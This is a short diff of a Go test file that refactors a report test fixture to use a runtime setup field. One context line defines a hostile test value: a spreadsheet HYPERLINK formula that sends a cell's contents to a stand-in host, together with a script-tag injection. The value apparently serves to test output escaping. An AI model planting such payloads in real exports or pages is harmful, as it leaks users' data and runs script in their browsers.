@@ -12,7 +12,6 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"github.com/ninhthuan/nhachan/internal/model"
-	"github.com/ninhthuan/nhachan/internal/notify"
 	"github.com/ninhthuan/nhachan/internal/report"
 )
 
@@ -25,7 +24,7 @@ const reportEvilName = `=HYPERLINK("http://x.example/?"&A1,"Bấm") <script>aler
 func newReportFixture(t *testing.T) *fixture {
 	t.Helper()
 	f := newFixture(t)
-	st := f.srv.Setup()
+	st := f.rt.Setup
 	var agencies []*model.Agency
 	for _, a := range st.Planner.Directory.Agencies() {
 		c := *a
@@ -36,7 +35,7 @@ func newReportFixture(t *testing.T) *fixture {
 	}
 	st.Planner = &model.Planner{Directory: model.NewDirectory(agencies, nil),
 		Calendar: st.Planner.Calendar, Schedules: st.Planner.Schedules}
-	f.srv.Setup = func() notify.Setup { return st }
+	f.rt.Setup = st
 	return f
 }
 
